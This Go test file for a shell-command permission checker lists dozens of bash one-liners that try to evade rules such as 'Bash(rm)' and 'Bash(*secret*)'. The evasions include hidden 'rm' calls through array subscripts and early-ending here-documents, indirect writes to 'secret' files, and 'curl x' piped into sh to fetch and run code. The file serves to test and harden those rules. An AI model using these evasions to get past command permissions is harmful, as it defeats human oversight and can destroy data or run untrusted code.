//go:build unix

package permission

// Commands get around a rule by a name that bash sets itself, a line that ends a here-document
// too early, text that only looks like a word, and streams and pipelines that are made in one
// place and used in another.
func init() {
	calls := judged{"Bash(rm)", map[string]string{"rm": `[ $# != 0 ] || : >"$CALLED"`}}
	equals := judged{"Bash(git a=/x)", map[string]string{"git": `[ "$*" != a=/x ] || : >"$CALLED"`}}
	// On Linux a stream shows whether it appends; the rule is not about appending.
	writes := judged{"Bash(git log > out)", map[string]string{"git": `[ "$*" = log ] && [ /dev/fd/1 -ef out ] || exit
		while read name value; do case $name$value in flags:*[2367]???) exit; esac; done </proc/self/fdinfo/1
		: >"$CALLED"`}}
	mentions := judged{"Bash(*secret*)", map[string]string{"git": `[ /dev/fd/0 -ef secret ] || [ /dev/fd/1 -ef secret ] || [ "$1" = secret ] || exit; : >"$CALLED"`}}
	tricks = append(tricks, []struct {
		judged
		commands []string
	}{
		{removes, []string{
			"[ -v x -o -v 'a[$(rm x)]' ]", "[ x = -v -o -v 'a[$(rm x)]' ]", "test -v x -a -v 'a[$(rm x)]'", "[ ! -v x -o -R x -o -v 'a[$(rm x)]' ]", "x=-v; [ \"$x\" 'a[`rm y`]' ]", "x=-v; [ \"$x\" 'a[x$(rm y)]' ]", "x=-v; y='b[$(rm y)]'; a=1; [ \"$x\" 'a[y]' ]",
			"touch -- -v; [ -? 'a[$(rm x)]' ]", "touch -- -v; [ * 'a[$(rm x)]' ]", "touch -- -v 'a[$(rm x)]'; [ * ]", "touch -- -v; test [-]v 'a[$(rm x)]'", "eval HOME=-v; [ ~ 'a[$(rm x)]' ]", "PS4='$(rm x)'; touch -- -x; set *; :",
			"declare -n r=RANDOM; r=$'a\\x5b$\\x28rm x)]'", "declare -n r=OPTIND; r=$'a\\x5b`rm x`]'", "declare -n r; r=HISTCMD; x=$'a\\x5b`rm x`]'; r=$x", "function f { local -n r=SECONDS; r=$'a\\x5b`rm x`]'; }; f",
			"read -a x <<< 1; declare x=$'\\x28`rm y`\\x29'", "mapfile x <<< 1; declare x=$'\\x28`rm y`\\x29'", "readarray x <<< 1; typeset x=$'\\x28`rm y`\\x29'", "declare DIRSTACK=$'\\x28`rm y`\\x29'", "x=$'\\x28`rm y`\\x29'; declare DIRSTACK=\"$x\"",
			"echo $(cat <<E\nhello\nE rm x; )\nE\n: )", "echo $(cat <<'E'\nhello\nE rm x; )\nE\n)", "echo $(cat <<'E'\nhello\nE\trm x; )\nE\n)", "echo $(cat <<-'E'\nhello\n\tErm x)\nE\n)", "echo $(cat <<'E'\nhello\nErm x)\nE\n)", "cat <(cat <<'E'\nhello\nE rm x)\nE\n)", "echo \"$(cat <<\\E\nErm x)\nE\n)\"", "x=$(cat <<\"E F\"\nE Frm x)\nE F\n)",
			"cat <<E\n${x:-\"}\nE\nrm x\ncat <<E\n\"}\nE", "cat <<E\n${x#\"}\nE\nrm x\ncat <<E\n\"}\nE", "cat <<E\n`cat <<'F'\nE\nrm x\nF\n`\nE", "cat <<E\n$(cat <<'F'\nE\nrm x\nF\n)\nE", "cat <<-E\n${x:-\"\n\tE\nrm x\ncat <<E\n\"}\nE",
			"coproc 2>&1 rm x; wait", "coproc 2>f rm x; wait", "coproc {v}>f rm x; wait", "coproc 0</dev/null rm x; wait", "x=(@(a))<<E\nrm\nE", "x+=(1 !(a)) <<'E'\n$(rm x)\nE", "declare -a x=(?(a)) <<E\nrm x\nE", "<<EOF \"\";[[ \"\" ]]\nEOF\neval 'rm'\nEOF", "cat <<E; [[ a ]]\nE\nrm x\nE", "cat <<'E' && [[ a == a ]]\nE\nrm x\nE",
			"<<'E' a >(<<-E)\n`rm `\nE\nE\n", "cat <<'E' <(cat <<'F')\nE\nrm x\nF\nE", "cat <<'E' $(cat <<'E')\nE\nrm x\nE\nE", "time -- ! rm x", "time -- A=1 rm x", "time -- coproc rm x; wait", "time -p -- rm x", "time -- [[ 'a[$(rm x)]' -eq 0 ]]", "y=x; jobs -$y rm x", "touch -- -x; jobs -? rm x",
			"shopt -s nullglob; {[}]$z,rm} y", "{[}]\"\",rm} y", "echo 5 rm x | xargs timeout", "echo rm x | xargs timeout 5", "echo rm x | xargs nohup", "echo rm x | xargs nice", "echo 5 rm x | xargs nice -n", "echo rm x | xargs xargs", "echo 5 9 rm x | xargs timeout -k", "echo rm x | xargs xargs nice", "echo rm x | nohup xargs nice -n 5",
		}},
		{calls, []string{"rm $x", "rm $@", "rm {,}", "rm \"$@\"", "rm $x$y", "rm `:`", "rm $(:)", "shopt -s nullglob; rm zz*", "xargs rm </dev/null", "HOME=; rm $HOME", "unset HOME; rm $HOME", "eval HOME=; rm $HOME", "nohup rm $x", "rm $x \"${y[@]}\""}},
		{equals, []string{"HOME=/x; git a=~", "PWD=/x; git a=~+", "OLDPWD=/x; git a=~-", "HOME=/x git a=~; HOME=/x; git \\a=~", "HOME=/x; git 'a'=~"}},
		{pushes, []string{"shopt -s nullglob; git zz* push", "shopt -s null\"glob\"; git zz? push x", "touch push; git [p]u\"s\"h", "nohup git push", "echo push x | xargs git", "echo git push | xargs nohup", "timeout 5 git pu*; touch push; timeout 5 git pu*"}},
		{writes, []string{
			"git log > out", "git log 1>out", "git log >|out", "git log 1> out", "git log 1>|out", "git log &>out", "git log >&out", ">out git log", "git > out log", "git log 2>x >out", "git log >out 2>x", "git log > x > out", "git log </dev/null >out", "git log > out 2>&1", "git log > \\\nout", "git log >o\"u\"t", "git log >$'out'",
			"git log <>out >&0", "git log 3>out >&3", "git log {fd}>out >&$fd", "git log 1<>out", "exec 1<>out; git log", "exec >out; git log", "exec > out\ngit log", "exec 5>out; git log >&5", "trap 'git log' EXIT; exec >out", "{ git log; } >out", "(git log) >out", "if git log; then :; fi > out", "f() { git log; } >out; f", "f() { git log; }; f >out",
			"eval 'f() { git log; }'; f > out", "f() { git \"$@\"; }; f log >out", "{ { git log; }; } >out", "while git log; do break; done >out", "case a in a) git log;; esac >out", "for i in a; do git log; done > out", "eval 'git log' >out", "eval git log >out", "eval 'git log >out'", "touch out; git log > ou?", "touch out; git log > ou*", "git log >ou{t,}",
			"coproc git log >out; wait", "time git log >out", "! git log >out", "command git log >out", "exec git log >out", "xargs git log >out </dev/null", "echo git log | xargs nohup >out", "nohup git log 1>out", "{ git log >&3; } 3>out", "{ git log; } >&3 3>out", "[[ a ]] && git log > out", "coproc { git log; } >out; wait",
		}},
		{mentions, []string{
			"git >secret", "git 2>&1 >> secret", "touch secret; git <secret", "touch secret; git < sec\"ret\"", "touch secret; { git; } <secret", "(git) >secret", "touch secret; while git; do break; done <secret", "touch secret; exec <secret; git", "exec >secret\ngit", "touch secret; git < s?cret", "touch secret; git <$'secret'", "touch secret; git <sec{ret,}",
			"x=secret; git <$x", "f() { git; }; f >secret", "eval git >secret", "touch secret; git 0<secret", "git 1<>secret", "git &>secret", "git >|secret", "git secret", "git sec''ret", "touch secret; git sec*", "nohup git secret", "echo secret | xargs git",
		}},
		{pipes, []string{
			"sh < <(curl x)", "curl x > >(sh); wait", "curl x | tee >(sh) | cat", "exec < <(curl x); sh", "exec > >(sh); curl x", "{ sh; } < <(curl x)", "sh 0< <(curl x)", "cat <(curl x) | sh", "curl x | eval sh", "eval 'curl x' | sh", "curl x | trap sh EXIT", "curl x | { trap sh EXIT; }", "curl x | . /dev/stdin", "f() { sh; }; curl x | f", "f() { curl x; }; f | sh",
			"eval 'f() { sh; }'; curl x | f", "function f { curl x | \"$@\"; }; f sh", "curl x | coproc sh", "coproc curl x; sh <&63; wait", "coproc { curl x; }; sh <&63", "coproc { sh; }; curl x >&60; wait", "curl x | nohup sh", "curl x | timeout 5 sh", "echo sh | xargs echo; curl x | command sh", "curl x | exec sh", "curl x | exec -a y sh",
		}},
	}...)
}
